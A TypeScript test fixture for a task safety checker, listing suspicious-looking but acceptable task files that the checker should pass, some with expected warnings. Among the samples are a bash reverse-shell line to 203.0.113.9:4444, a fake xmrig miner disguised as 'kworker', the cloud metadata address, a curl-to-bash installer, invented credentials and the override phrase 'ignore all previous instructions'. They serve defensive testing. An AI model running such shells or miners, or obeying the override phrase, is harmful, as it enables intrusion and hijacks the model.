import { readdirSync } from 'node:fs'
import type { SafetyCheckOptions } from '../../src/harbor/safety/check-task.ts'
import type { FileContents } from '../support/harbor/folders.ts'
import { changed, compose, dockerfile, GOOD_TASK, toml } from './good-task.ts'

/** A suspicious-looking but acceptable task. Some have warnings. */
export type SafetyControl = { what: string; files: FileContents; warns?: string[]; options?: SafetyCheckOptions }

const control = (what: string, files: FileContents, ...warns: string[]): SafetyControl => ({
  what,
  files: changed(files),
  warns,
})

export const SAMPLES = new URL('../../samples/tasks/', import.meta.url).pathname
export const SAMPLE_NAMES = readdirSync(SAMPLES)

const COMPOSE: SafetyControl[] = [
  control('a mount of the environment’s own folder', compose('volumes: ["./app:/data:ro"]')),
  control('a volume with a name', {
    'environment/docker-compose.yaml': 'services: {main: {build: ., volumes: ["data:/data"]}}\nvolumes: {data: {}}\n',
  }),
  control(
    'the folders for logs of Harbor',
    compose(`volumes: ["\${HOST_VERIFIER_LOGS_PATH}:\${ENV_VERIFIER_LOGS_PATH}"]`),
  ),
  control('variables that Harbor hands over', {
    'environment/docker-compose.yaml': `services:
  main:
    build: {context: "\${CONTEXT_DIR}"}
    image: \${MAIN_IMAGE_NAME}
    network_mode: \${NETWORK_MODE:-bridge}
`,
  }),
  control('a variable with a fallback', compose(`environment: ["PORT=\${PORT:-8080}"]`)),
  control('a password of the task’s own database', compose(`environment: {PGPASSWORD: "\${DB_PASSWORD:-postgres}"}`)),
  control('a variable that task.toml declares', {
    ...compose(`environment: ["PLACE=\${PLACE}"]`),
    ...toml('[environment.env]', 'PLACE = "here"'),
  }),
  control('a dollar for the shell', compose('command: ["sh", "-c", "echo $$HOME"]')),
  control(
    'a health check over a socket of bash',
    compose('healthcheck: {test: ["CMD", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80"]}'),
  ),
  control('a service that is closed off', compose('network_mode: none')),
]

const REGISTRIES: SafetyControl[] = [
  control('an image of a public registry with a port', toml('docker_image = "registry.example.com:5000/a/b:1"')),
  {
    ...control('a private registry that the operator allows', toml('docker_image = "10.0.0.5:5000/a"')),
    options: { buildHosts: [{ host: '10.0.0.5', port: 5000 }] },
  },
  control('a copy from an earlier stage', {
    'environment/Dockerfile':
      'FROM python:3.13-slim AS build\nFROM python:3.13-slim\nCOPY --from=build /etc/os-release /a\n',
  }),
]

const DOCKERFILE: SafetyControl[] = [
  control('Docker’s own builder, named', {
    'environment/Dockerfile': `# syntax=docker/dockerfile:1.7\n${GOOD_TASK['environment/Dockerfile']}`,
  }),
  control('a cache mount', dockerfile('RUN --mount=type=cache,target=/root/.cache pip install ruff')),
  control(
    'an installer that is piped into a shell',
    dockerfile('RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -'),
  ),
  control('a copy of the project’s own tests', {
    ...dockerfile('COPY tests /app/tests'),
    'environment/tests/test_public.py': 'def test_import():\n    import median  # what everybody may see\n',
  }),
  control(
    'tests that the instruction gives to the agent',
    {
      ...dockerfile('COPY tests /app/tests'),
      'environment/tests/test_median.py': `${GOOD_TASK['tests/test_median.py']}`,
      'instruction.md': 'Make tests/test_median.py pass.\n',
    },
    'tests_repeated',
  ),
  control('a dot-dot that stays inside', dockerfile('COPY app/../app/median.py /app/again.py')),
  control(
    'evidence of an attack, written into a file',
    dockerfile(`RUN echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /var/log/evidence.log`),
  ),
  control(
    'a fake miner to be found',
    dockerfile(`RUN printf '#!/bin/sh\\nxmrig -o stratum+tcp://pool.example.org:3333\\n' > /usr/local/bin/kworker`),
  ),
  control(
    'the address of the metadata service in a list to be cleaned',
    dockerfile(`RUN echo 169.254.169.254 >> /app/hosts.txt`),
  ),
  control('letters that become a file', dockerfile('RUN echo aGVsbG8= | base64 -d > /app/greeting.bin')),
  control(
    'a clone with its history',
    dockerfile('RUN git clone https://github.com/psf/requests.git /src'),
    'git_history',
  ),
  control(
    'a clone without its history',
    dockerfile('RUN git clone https://github.com/psf/requests.git /src && rm -rf /src/.git'),
  ),
]

const CONTENT: SafetyControl[] = [
  control('keys from the documentation of AWS', { 'environment/app/config.ini': 'key = AKIAIOSFODNN7EXAMPLE\n' }),
  control(
    'invented tokens to be found and removed',
    { 'environment/app/leak.py': `A = "ghp_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'}"\nB = "AKIAQ7ZLVJ3KXN5T2WRM"\n` },
    'credentials',
  ),
  control(
    'a private key for a test server',
    {
      'environment/app/server.key': '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK\n-----END RSA PRIVATE KEY-----\n',
    },
    'credentials',
  ),
  control(
    'a rule against reverse shells',
    { 'tests/test_median.py': 'BAD = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"\nassert not allowed(BAD)\n' },
    'reverse_shell_text',
  ),
  control(
    'an instruction about the metadata service',
    { 'instruction.md': 'Block requests to 169.254.169.254.\n' },
    'metadata_endpoint_text',
  ),
  control(
    'an instruction about prompt injection',
    { 'instruction.md': 'Write a filter for texts like "ignore all previous instructions".\n' },
    'instruction_orders',
  ),
  control('a comment against training', { 'instruction.md': '<!-- canary GUID 26b5c67b-86ad -->\nMend it.\n' }),
  control('flags, families and hearts', { 'instruction.md': 'Draw 🏴󠁧󠁢󠁥󠁮󠁧󠁿, 👩‍👩‍👧‍👦 and ❤️.\n' }),
  control('Persian, whose words need a character that is not shown', { 'instruction.md': 'برنامه می‌خواهم بنویسم\n' }),
  control(
    'a space that is not shown, from a web page',
    { 'instruction.md': 'Mend\u200B it.\n' },
    'instruction_invisible',
  ),
  control(
    'a judge that needs a key',
    toml('[verifier.env]', `OPENAI_API_KEY = "\${OPENAI_API_KEY}"`),
    'requested_variables',
  ),
  control(
    'an agent without a time limit',
    {
      'task.toml': `${GOOD_TASK['task.toml']}`.replace('timeout_sec = 600\n', ''),
    },
    'timeout_missing',
  ),
  control(
    'a public address on the list',
    toml('network_mode = "allowlist"', 'allowed_hosts = ["8.8.8.8", "pypi.org"]'),
  ),
  control('a misspelt key in task.toml', toml('[environment.extra]', 'x = 1'), 'unknown_keys'),
  control('keys of its own below metadata', toml('[metadata.lab]', 'owner = "us"')),
  control('a file of a million letters', { 'environment/app/data.csv': '1,2,3\n'.repeat(300_000) }, 'scan_limit'),
  control('a closed network', toml('network_mode = "no-network"')),
]

export const CONTROLS: SafetyControl[] = [...COMPOSE, ...REGISTRIES, ...DOCKERFILE, ...CONTENT]
